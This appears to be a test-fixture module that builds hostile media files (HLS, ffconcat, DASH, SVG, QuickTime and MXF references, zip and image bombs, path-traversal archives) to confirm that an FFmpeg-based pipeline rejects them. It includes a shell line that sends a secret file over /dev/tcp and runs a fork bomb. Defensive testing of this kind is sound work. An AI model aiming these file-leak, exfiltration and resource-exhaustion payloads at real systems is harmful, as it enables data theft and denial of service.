"""Hostile files: they try to read files, use the network, start programs, or grow without end.

Each is made for one file that it tries to read (``secret``) and one loopback address that it
tries to reach (``url``).
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import partial
from pathlib import Path

from .bases import bases, ffmpeg
from .boxes import box, graft, replace
from .jpegs import jpeg
from .matroskas import element
from .stills import chunk, png


@dataclass(frozen=True)
class Target:
    """What no hostile file may reach."""

    secret: Path
    url: str


@dataclass(frozen=True)
class Hostile:
    """A file and its permitted outcomes: reason codes, or "accepted" as harmless.

    ``doors`` are the options with which FFmpeg does what the file wants; None where it wants
    to grow, not to get out.
    """

    name: str
    ends: tuple[str, ...]
    make: Callable[[Target], bytes]
    doors: tuple[str, ...] | None = None


# --- files that name other files ---


def _hls(scheme: str, target: Target) -> bytes:
    where = target.secret.as_uri() if scheme == "file" else f"{target.url}/segment.ts"
    return (
        "#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:10\n#EXT-X-MEDIA-SEQUENCE:0\n"
        f'#EXT-X-MAP:URI="{where}"\n#EXTINF:10.0,\n{where}\n#EXT-X-ENDLIST\n'
    ).encode()


def _hls_concat(target: Target) -> bytes:
    """The playlist with which FFmpeg once sent the first line of a file to a chosen address."""
    inner = f"concat:{target.url}/header.m3u8|file://{target.secret}"
    return f"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\n{inner}\n#EXT-X-ENDLIST\n".encode()


def _avi_with_playlist(target: Target) -> bytes:
    """GAB2: an AVI's subtitle packet that FFmpeg hands to any demuxer, here to HLS."""
    playlist = _hls("file", target)
    packet = b"GAB2\0\x02\0" + b"\0\0\0\0\0\0" + b"\x04\0" + struct.pack("<I", len(playlist))
    packet += playlist
    main = struct.pack("<14I", 40000, 0, 0, 0x10, 2, 0, 1, 0, 64, 48, 0, 0, 0, 0)
    strh = b"txts" + struct.pack("<I", 0) + struct.pack("<10I", 0, 0, 0, 1, 1, 0, 2, 0, 0, 0)
    strh += struct.pack("<4H", 0, 0, 0, 0)
    streams = _list(b"strl", _riff(b"strh", strh), _riff(b"strf", b""))
    hdrl = _list(b"hdrl", _riff(b"avih", main), streams)
    movi = _list(b"movi", _riff(b"00tx", packet) * 2)
    return b"RIFF" + struct.pack("<I", 4 + len(hdrl) + len(movi)) + b"AVI " + hdrl + movi


def _riff(kind: bytes, body: bytes) -> bytes:
    return kind + struct.pack("<I", len(body)) + body + b"\0" * (len(body) & 1)


def _list(kind: bytes, *chunks: bytes) -> bytes:
    return _riff(b"LIST", kind + b"".join(chunks))


def _concat(target: Target) -> bytes:
    return f"ffconcat version 1.0\nfile '{target.secret}'\nfile '{target.url}/x.mp4'\n".encode()


def _dash(target: Target) -> bytes:
    return (
        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
        'mediaPresentationDuration="PT9S"><Period><AdaptationSet mimeType="video/mp4">'
        f"<Representation id='1' bandwidth='1'><BaseURL>{target.url}/x.mp4</BaseURL>"
        f"</Representation><Representation id='2' bandwidth='1'>"
        f"<BaseURL>file://{target.secret}</BaseURL></Representation>"
        "</AdaptationSet></Period></MPD>"
    ).encode()


def _sdp(target: Target) -> bytes:
    port = target.url.rsplit(":", 1)[-1]
    return (
        "v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\ns=x\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\n"
        f"m=video {port} RTP/AVP 96\r\na=rtpmap:96 H264/90000\r\n"
    ).encode()


def _svg(target: Target) -> bytes:
    return (
        '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file://'
        f'{target.secret}">]><svg xmlns="http://www.w3.org/2000/svg" '
        'xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="48">'
        f'<image xlink:href="{target.url}/x.png" width="64" height="48"/>'
        f'<image xlink:href="file://{target.secret}" width="64" height="48"/>'
        f"<text>&x;</text><script>fetch('{target.url}')</script></svg>"
    ).encode()


def _with_reference(reference: bytes, _target: Target) -> bytes:
    """A film with its media in another file: its data reference is not the file itself."""
    path = (b"moov", b"trak", b"mdia", b"minf", b"dinf", b"dref")
    return replace(bases()["film.mp4"], path, b"\0\0\0\0\0\0\0\1" + reference)


def _alias(target: Target) -> bytes:
    """QuickTime's alias record with the path of a file (type 2 and 18 of its fields)."""
    path = str(target.secret).encode()
    record = struct.pack(">4sHH", b"\0\0\0\0", 150, 2) + b"\0" * 142
    for kind in (2, 18):
        record += struct.pack(">HH", kind, len(path)) + path + b"\0" * (len(path) & 1)
    return _with_reference(box(b"alis", b"\0\0\0\0" + record + b"\xff\xff\0\0"), target)


def _url(target: Target) -> bytes:
    return _with_reference(box(b"url ", b"\0\0\0\0" + target.url.encode() + b"/x.mp4\0"), target)


def _mxf(target: Target) -> bytes:
    """The partition pack of an MXF, and a locator to a file elsewhere (SMPTE 377-1, B.4)."""
    key = bytes.fromhex("060e2b34020501010d01020101020400")
    locator = str(target.secret).encode("utf-16-be")
    metadata = bytes.fromhex("060e2b34025301010d01010101013200")
    body = struct.pack(">HH", 0x4001, len(locator)) + locator
    return (
        key
        + b"\x83\0\0\x58"
        + b"\0\1\0\2"
        + b"\0" * 84
        + (metadata + b"\x83" + struct.pack(">I", len(body))[1:] + body)
    )


def _script(target: Target) -> bytes:
    return f"#!/bin/sh\ncat {target.secret} > /dev/tcp/127.0.0.1/1; (:(){{ :|:& }};:)\n".encode()


def _image_list(target: Target) -> bytes:
    """A name with a pattern and text for vapoursynth, which would run it."""
    return f"import vapoursynth\nopen({str(target.secret)!r}).read()\n".encode()


# --- files that grow ---


def _png_of(width: int, height: int, _target: Target) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    engine = zlib.compressobj(9)
    row = bytes(1 + 3 * width)
    data = b"".join(engine.compress(row) for _ in range(min(height, 4))) + engine.flush()
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def _jpeg_of(width: int, height: int, _target: Target) -> bytes:
    still = bases()["still.jpg"]
    at = still.index(b"\xff\xc0")
    return still[: at + 5] + struct.pack(">HH", height, width) + still[at + 9 :]


def _gif_of_giants(_target: Target) -> bytes:
    frame = b"\x2c\0\0\0\0\xff\xff\xff\xff\0\x02\x02\x4c\x01\0"
    return b"GIF89a\xff\xff\xff\xff\x80\0\0\0\0\0\xff\xff\xff" + frame * 20_000 + b";"


def _gif_without_end(_target: Target) -> bytes:
    """Frames of ten minutes each, in a loop for ever."""
    loop = b"\x21\xff\x0bNETSCAPE2.0\x03\x01\0\0\0"
    frame = b"\x21\xf9\x04\x04\xff\xff\0\0\x2c\0\0\0\0\x04\0\x04\0\0\x02\x04\x84\x8f\x09\x05\0"
    return b"GIF89a\x04\0\x04\0\x80\0\0\0\0\0\xff\xff\xff" + loop + frame * 5000 + b";"


def _webp_of_giants(_target: Target) -> bytes:
    canvas = b"\x02\0\0\0" + b"\xff\xff\xff" * 2
    still = bases()["still.webp"][12:]
    frame = _riff(b"ANMF", b"\0" * 12 + b"\x10\0\0\0" + still)
    body = b"WEBP" + _riff(b"VP8X", canvas) + _riff(b"ANIM", b"\0" * 6) + frame * 50
    return b"RIFF" + struct.pack("<I", len(body)) + body


def _packed_profile(_target: Target) -> bytes:
    return png(chunk(b"iCCP", b"x\0\0" + zlib.compress(bytes(96 << 20), 9)))


def _tiff_in_a_loop(_target: Target) -> bytes:
    fields = [(256, 4, 1, 60000), (257, 4, 1, 60000), (258, 3, 1, 8 << 16), (259, 3, 1, 1 << 16)]
    fields += [(262, 3, 1, 1 << 16), (273, 4, 1, 8), (277, 3, 1, 1 << 16), (279, 4, 1, 64)]
    rows = b"".join(struct.pack(">HHII", *field) for field in fields)
    return b"MM\0*\0\0\0\x08" + struct.pack(">H", len(fields)) + rows + b"\0\0\0\x08"


def _zip_bomb(_target: Target) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for number in range(10):
            archive.writestr(f"{number}.mp4", bytes(24 << 20))
    return packed.getvalue()


def _russian_zip(target: Target) -> bytes:
    data = _png_of(8, 8, target)
    for _ in range(12):
        packed = io.BytesIO()
        with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("../../../etc/x.zip", data)
            archive.writestr(str(target.secret), data)
        data = packed.getvalue()
    return data


def _samples_without_end(_target: Target) -> bytes:
    path = (b"moov", b"trak", b"mdia", b"minf", b"stbl")
    film = replace(bases()["film.mp4"], (*path, b"stsz"), struct.pack(">III", 0, 1, 0xFFFFFFFF))
    film = replace(film, (*path, b"stts"), struct.pack(">IIII", 0, 1, 0xFFFFFFFF, 1))
    return replace(film, (*path, b"stsc"), struct.pack(">IIIII", 0, 1, 1, 0xFFFFFFFF, 1))


def _years_long(_target: Target) -> bytes:
    """Few pictures, each shown for years."""
    path = (b"moov", b"trak", b"mdia", b"minf", b"stbl", b"stts")
    return replace(bases()["film.mp4"], path, struct.pack(">IIII", 0, 1, 100, 0x7FFFFFFF))


def _recursive_matroska(_target: Target) -> bytes:
    """Segments and clusters of unknown size, each inside the one before."""
    unknown = b"\x01" + b"\xff" * 7
    opened = b"\x18\x53\x80\x67" + unknown + b"\x1f\x43\xb6\x75" + unknown
    return element(0x1A45DFA3, element(0x4282, b"matroska")) + opened * 100_000


def _switching(_target: Target) -> bytes:
    """A transport stream whose picture changes its size with every group of pictures."""
    parts = [
        ffmpeg(
            *("-f", "lavfi", "-i", f"color=s={size}:d=0.2:r=25"),
            *("-c:v", "libx264", "-preset", "ultrafast", "-f", "h264", "-"),
        )
        for size in ("16x16", "4096x2160", "32x240", "1920x1080", "2x2")
    ]
    return ffmpeg(
        *("-f", "h264", "-i", "-", "-c", "copy", "-f", "mpegts", "-"), give=b"".join(parts) * 5
    )


def _many_channels(_target: Target) -> bytes:
    """A film that claims 65,535 channels of sound."""
    film = bases()["film.avi"]
    at = film.index(b"auds")
    at = film.index(b"strf", at) + 10
    return film[:at] + struct.pack("<HI", 0xFFFF, 0xFFFFFFFF) + film[at + 6 :]


def _nested_film(_target: Target) -> bytes:
    body = b""
    for _ in range(4000):
        body = box(b"trak", body)
    return graft(bases()["film.mp4"], (b"moov",), body)


def _many_tracks(_target: Target) -> bytes:
    film = bases()["film.mp4"]
    at = film.index(b"trak") - 4
    size = int.from_bytes(film[at : at + 4], "big")
    return graft(film, (b"moov",), film[at : at + size] * 3000)


def _edit_list(_target: Target) -> bytes:
    """A film that shows its first picture again and again, for ever."""
    path = (b"moov", b"trak", b"edts", b"elst")
    rows = struct.pack(">IIHH", 1000, 0, 1, 0) * 100_000
    return replace(bases()["film.mp4"], path, struct.pack(">II", 0, 100_000) + rows)


def _header_in_jpeg(_target: Target) -> bytes:
    return jpeg(*[b"\xff\xfe\xff\xff" + bytes(65533)] * 200)


_FAULTS = ("corrupt", "unsafe", "no-video", "unsupported", "too-long", "timeout")
_NAMES = ("unsafe", "not-media", "corrupt", "no-video")

_PICKY = ("-allowed_extensions", "ALL", "-extension_picky", "0")
_HLS = ("-f", "hls", *_PICKY)
_DREFS = ("-enable_drefs", "1", "-use_absolute_path", "1")

HOSTILE: tuple[Hostile, ...] = (
    Hostile("hls-file.mp4", ("unsafe",), partial(_hls, "file"), _HLS),
    Hostile("hls-http.ts", ("unsafe",), partial(_hls, "http"), _HLS),
    Hostile("hls-concat.mov", ("unsafe",), _hls_concat, _HLS),
    Hostile("avi-playlist.avi", _NAMES, _avi_with_playlist, ()),
    Hostile("ffconcat.mp4", ("unsafe",), _concat, ("-safe", "0")),
    Hostile("dash.mp4", ("unsafe",), _dash, ()),
    Hostile("session.mp4", ("unsafe",), _sdp, ()),
    Hostile("drawing.png", ("unsafe",), _svg, ()),
    Hostile("alias.mov", _NAMES, _alias, _DREFS),
    Hostile("url.mp4", ("accepted", *_NAMES), _url, _DREFS),
    Hostile("locator.mxf", ("unsupported",), _mxf, ()),
    Hostile("script.mp4", ("unsafe",), _script),
    Hostile("script.vpy", ("not-media",), _image_list),
    Hostile("huge.png", ("unsafe", "corrupt"), partial(_png_of, 60000, 60000)),
    Hostile("wide.png", ("unsafe", "corrupt"), partial(_png_of, 2_000_000, 100)),
    Hostile("huge.jpg", ("unsafe", "corrupt"), partial(_jpeg_of, 65500, 65500)),
    Hostile("giants.gif", ("unsafe", "corrupt"), _gif_of_giants),
    Hostile("endless.gif", ("too-long", "corrupt"), _gif_without_end),
    Hostile("giants.webp", ("unsafe", "corrupt"), _webp_of_giants),
    Hostile("profile.png", ("accepted", "corrupt"), _packed_profile),
    Hostile("loop.tiff", ("unsafe", "corrupt"), _tiff_in_a_loop),
    Hostile("bomb.zip", ("unsafe",), _zip_bomb),
    Hostile("nested.zip", ("accepted",), _russian_zip),
    Hostile("samples.mp4", _FAULTS, _samples_without_end),
    Hostile("years.mp4", ("too-long",), _years_long),
    Hostile("recursion.mkv", _FAULTS, _recursive_matroska),
    Hostile("switching.ts", ("accepted",), _switching),
    Hostile("channels.avi", ("accepted", *_FAULTS), _many_channels),
    Hostile("nested.mp4", ("accepted", *_FAULTS), _nested_film),
    Hostile("tracks.mp4", ("accepted", *_FAULTS), _many_tracks),
    Hostile("edits.mp4", ("accepted", *_FAULTS), _edit_list),
    Hostile("comments.jpg", ("accepted", "corrupt"), _header_in_jpeg),
)
